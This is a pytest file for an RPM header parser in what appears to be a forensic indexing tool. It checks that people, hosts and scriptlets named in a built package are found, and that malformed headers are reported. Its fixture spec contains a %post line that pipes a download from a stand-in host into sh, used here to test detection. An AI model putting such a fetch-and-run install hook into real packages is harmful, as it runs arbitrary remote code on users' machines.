"""Headers of RPM packages, made by rpmbuild: people and machines that they name are found; hostile ones are told."""

from pathlib import Path
from struct import pack

import pytest

from actionday.detectors.filetype import identify_type
from actionday.model import Damaged, Limits, Loss, Parsed
from actionday.parsers.rpm import PARSER
from actionday.testing.parsers import check_parser
from case_tools import Bench, needs, tool
from steps import steps

MIME = "application/x-rpm-header"
SPEC = """Name: kestrel
Version: 1
Release: 2
Summary: Kestrel radio relay
Summary(de): Turmfalke Relaisstelle
License: Harbourlicence
Vendor: Bittern Works
Packager: Mira Fenn <mira@kestrel.example>
URL: https://kestrel.example/relay
BuildArch: noarch
Requires: lighthouse-keys
%description
Relays the evening schedule of the harbour.
%pre
useradd -r quayuser
%post
curl https://drop.example/stage2 | sh
%triggerin -- osprey
touch /var/lib/heron
%changelog
* Mon Jan 05 2026 Jörg Kranich <joerg@kestrel.example> - 1-2
- moved the transmitter to the quay
%install
mkdir -p %{buildroot}/opt/kestrel
echo plan > %{buildroot}/opt/kestrel/plan.txt
%files
/opt/kestrel
%ghost /run/later.pid
"""


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    top = tmp_path_factory.mktemp("rpm")
    (top / "kestrel.spec").write_text(SPEC)
    tool("rpmbuild", "-bb", "--quiet", "--define", f"_topdir {top}", "--define", "_buildhost quay.example",
         top / "kestrel.spec")  # fmt: skip
    return next((top / "RPMS").rglob("*.rpm"))


def entries(*of: tuple[int, int, int, int], store: bytes = b"") -> bytes:
    """Return a header by the description of its form."""
    index = b"".join(pack(">4I", *each) for each in of)
    return b"\x8e\xad\xe8\x01\0\0\0\0" + pack(">2I", len(of), len(store)) + index + store


def read(content: bytes) -> Parsed:
    return PARSER.parse(memoryview(content), MIME, Limits())


@needs("rpmbuild")
def test_people_machines_and_scripts_of_a_package_are_found(tmp_path: Path, package: Path) -> None:
    bench = Bench(tmp_path / "case")
    bench.ingest(package)
    for word in ("relay", "Turmfalke", "Harbourlicence", "Bittern", '"mira kestrel example"', '"quay example"', "quayuser",
                 '"drop example"', "heron", "osprey", "Jörg", '"2026-01-05"', "transmitter", '"lighthouse keys"',
                 '"run later pid"', "meta:Bittern", "meta:mira"):  # fmt: skip
        assert [hit["path"] for hit in bench.search(word)["hits"]] == ["header"], word
    assert bench.item("header")["status"] == "parsed"


@needs("rpmbuild")
def test_a_real_header_keeps_the_contract(package: Path) -> None:
    data = package.read_bytes()
    content = data[data.index(b"\x8e\xad\xe8\x01", 100) :]
    assert identify_type(content[:4096], b"", len(content)) == MIME
    length = 16 + 16 * int.from_bytes(content[8:12], "big") + int.from_bytes(content[12:16], "big")
    check_parser(PARSER, MIME, content[:length])
    assert read(content[:length]).notes == ()
    assert read(content[: length - 40]).notes[0].code == Loss.DAMAGED


def test_texts_of_an_older_encoding_are_read() -> None:
    latin = "Jörg Kräher, Grüße aus Köln und Zürich"
    header = entries((1000, 6, 0, 1), (1015, 6, 2, 1), store=b"k\0" + latin.encode("latin-1") + b"\0")
    assert latin in "".join(read(header).text)


def test_entries_within_one_another_are_read_once_and_told() -> None:
    store = b"kestrel\0" * 1000
    header = entries(*[(2000 + each, 8, 0, 1000) for each in range(2000)], store=store)
    assert steps(lambda: read(header)) < 100 * 2000  # each read for itself: 1000 texts for each entry
    parsed = read(header)
    assert (parsed.notes[0].code, "1999 entries" in parsed.reason) == (Loss.DAMAGED, True)
    assert "".join(parsed.text) == "kestrel\n"


@pytest.mark.parametrize(
    "content", [b"\x8e\xad\xe8\x01", entries(), entries((1000, 6, 9, 1)), entries((1000, 4, 0, 1))]
)
def test_what_has_no_text_is_damaged(content: bytes) -> None:
    with pytest.raises(Damaged):
        read(content)
